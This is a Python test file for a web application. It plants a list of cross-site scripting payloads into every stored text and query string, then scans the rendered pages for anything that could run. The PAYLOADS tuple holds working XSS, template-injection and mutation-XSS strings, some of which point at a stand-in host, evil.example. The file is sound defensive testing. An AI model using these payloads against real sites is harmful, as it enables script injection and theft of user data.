"""What people type is shown as what they typed: never as markup, script or style, on any page, for anybody."""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Iterator
from html import unescape
from html.parser import HTMLParser
from random import Random
from typing import Any

import pytest
from sqlalchemy import JSON, Connection, MetaData, String, Table, text

from tests.test_architecture import none
from tests.web import walking
from tests.web.walking import Site, attempt

site = walking.site


@pytest.fixture
def engine_name() -> str:
    """One engine: pages do not know it."""
    return "sqlite"


# Each tries another way out of the place where a text stands; they say "zXq" so that they can be found again.
PAYLOADS = (
    "<script>alert('zXq')</script>",
    "<img src=x onerror=alert('zXq')>",
    "\"><svg onload=alert('zXq')>",
    "' autofocus onfocus=alert('zXq') x='",
    "\" onmouseover=\"alert('zXq')",
    "</title><script>alert('zXq')</script>",
    "</textarea><script>alert('zXq')</script>",
    "--><script>alert('zXq')</script><!--",
    "<iframe srcdoc=\"<script>alert('zXq')</script>\">",
    "<a href=\"javascript:alert('zXq')\">zXq</a>",
    "<style>@import '//evil.example/zXq'</style>",
    "<base href=//evil.example/zXq>",
    "<meta http-equiv=refresh content=0;url=//evil.example/zXq>",
    "<form action=//evil.example/zXq><input name=csrf_token>",
    "<object data=data:text/html,zXq></object>",
    "{{ 7*7 }}{% raw %}zXq",
    "%3Cscript%3Ealert('zXq')%3C/script%3E",
    "&lt;script&gt;alert('zXq')&lt;/script&gt;",
    "<scr\u200bipt>zXq</scr\u200bipt>＜script＞",
    "<math><mtext></mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert('zXq') src>\">",
    "javascript:alert('zXq')",
    "[zXq](javascript:alert(1))",
)
NAMES = ("q", "page", "community", "state", "type", "next", "year", "month", "kind", "code")
TYPED = re.compile(r"[\u3400-\u9fff]")
# What the house itself writes: laws and rules, not what anybody typed.
OURS = frozenset({"rulebooks", "alembic_version"})
EVIL = re.compile(r"^\s*(javascript|data:text|vbscript|//evil|https?://evil)", re.IGNORECASE)
ADDRESSES = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "content"}
)
# The pages that look different for each state of a project.
IN_EVERY_STATE = frozenset({"public_projects.project", "office_desk.project"})
# A script that no browser runs: data of schema.org, in which nothing that could end it may stand.
DATA_BLOCK = {"type": "application/ld+json"}
FORBIDDEN = frozenset({"iframe", "object", "embed", "base", "style", "math", "mglyph", "applet", "frame"})


def planted(value: Any, lot: Random) -> Any:
    """A value in which every text that somebody may have typed ends in some payload."""
    if isinstance(value, str) and TYPED.search(value):
        return value + lot.choice(PAYLOADS)
    if isinstance(value, dict):
        return {key: planted(each, lot) for key, each in value.items()}
    return [planted(each, lot) for each in value] if isinstance(value, list) else value


def plant(connection: Connection) -> None:
    """Put payloads into every text of the database, past all that keeps them out."""
    for trigger in connection.scalars(text("SELECT name FROM sqlite_master WHERE type = 'trigger'")).all():
        connection.execute(text(f"DROP TRIGGER {trigger}"))
    connection.execute(text("PRAGMA ignore_check_constraints = ON"))
    known = MetaData()
    known.reflect(connection)
    lot = Random(1)
    for table in known.tables.values():
        texts = [c.name for c in table.columns if isinstance(c.type, String | JSON)]
        if table.name not in OURS and texts:
            _plant_in(connection, table, texts, lot)


def _plant_in(connection: Connection, table: Table, texts: list[str], lot: Random) -> None:
    keys = list(table.primary_key.columns)
    for row in connection.execute(table.select()).mappings().all():
        changes = {name: planted(row[name], lot) for name in texts}
        changes = {name: value for name, value in changes.items() if value != row[name]}
        if changes:
            connection.execute(
                table.update().where(*(key == row[key.name] for key in keys)).values(**changes)
            )


class Suspicion(HTMLParser):
    """Reads a page as a browser does and notes whatever in it could run or lead away."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.in_data = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.in_data = tag == "script" and given == DATA_BLOCK
        ours = self.in_data or (given.get("src") or "").startswith("/assets/")
        if tag in FORBIDDEN or (tag == "script" and not ours):
            self.found.append(f"<{tag}>")
        if tag == "meta" and given.get("http-equiv"):
            self.found.append("<meta http-equiv>")
        for name, value in attrs:
            if (
                name.startswith("on")
                or name in {"style", "srcdoc"}
                or (name in ADDRESSES and EVIL.match(value or ""))
            ):
                self.found.append(f"<{tag} {name}={value}>")

    def handle_data(self, data: str) -> None:
        if self.in_data and ("<" in data or not is_json(data)):
            self.found.append(f"data: {data[:80]}")

    def handle_endtag(self, tag: str) -> None:
        self.in_data = False


def is_json(data: str) -> bool:
    try:
        json.loads(data)
    except ValueError:
        return False
    return True


def pages(site: Site) -> Iterator[tuple[str, str]]:
    """Every page as somebody sees it whom it is meant for."""
    for rule in site.rules("GET"):
        about: list[dict[str, Any]] = [{}]
        if rule.endpoint in IN_EVERY_STATE:
            about = [{"number": number} for number in site.lives.numbers.values()]
        client = site.browser(site.who_may(rule))
        for instead in about:
            path = site.address(rule, **instead)
            answer = attempt(client, path)
            if getattr(answer, "mimetype", "") == "text/html":
                yield path, answer.text  # type: ignore[union-attr]


def test_nothing_that_was_typed_runs_on_any_page(site: Site):
    with site.bench.engine.begin() as connection:
        plant(connection)

    wrong, shown = [], Counter[str]()
    for told, page in pages(site):
        wrong += [f"{told}: {each}" for each in Suspicion(page).found]
        wrong += [f"{told}: {each}" for each in PAYLOADS if "<" in each and each in page]
        wrong += [f"{told}: a template ran" for _ in re.findall(r"49zXq|49\{% raw", page)]
        shown.update(each for each in PAYLOADS if each in unescape(page))

    none(set(wrong))
    assert [each for each in PAYLOADS if not shown[each]] == []


def test_nothing_that_is_asked_for_runs_on_the_page_that_answers(site: Site):
    wrong = []
    for rule in site.rules("GET"):
        client, path = site.browser(site.who_may(rule)), site.address(rule)
        for turn in range(8) if site.reads_queries(rule) else range(1):
            given = (*PAYLOADS[turn * 3 :], *PAYLOADS)
            query = dict(zip((*NAMES, given[len(NAMES)]), given, strict=False))
            answer = attempt(client, path, query_string=query)
            if getattr(answer, "mimetype", "") == "text/html":
                page = answer.text  # type: ignore[union-attr]
                wrong += [f"{path}: {each}" for each in Suspicion(page).found]
                wrong += [f"{path}: {each}" for each in PAYLOADS if "<" in each and each in page]

    none(set(wrong))


def test_the_suspicious_are_found():
    shapes = ('<p title="{0}">{0}</p>', "<p title='{0}'></p>", "<title>{0}</title>", "<a href='{0}'></a>")
    found = {
        payload: [Suspicion(shape.format(payload)).found for shape in shapes] for payload in PAYLOADS[:15]
    }

    assert [payload for payload, each in found.items() if not any(each)] == []


@pytest.mark.parametrize(
    "inside", ['{"a": "<b>"}', "alert(1)", '{"a": "</script><script>alert(1)</script>"}']
)
def test_a_block_of_data_that_is_none_is_found(inside):
    assert Suspicion(f'<script type="application/ld+json">{inside}</script>').found != []


def test_a_block_of_data_is_not_suspicious():
    assert Suspicion('<script type="application/ld+json">{"a": "\\u003cb>"}</script>').found == []


def test_what_is_planted_covers_nested_texts():
    words = {"a": ["灯"], "b": {"c": "杆"}, "d": 1, "e": "x"}

    told = json.dumps(planted(words, Random(1)))

    assert told.count("zXq") == 2
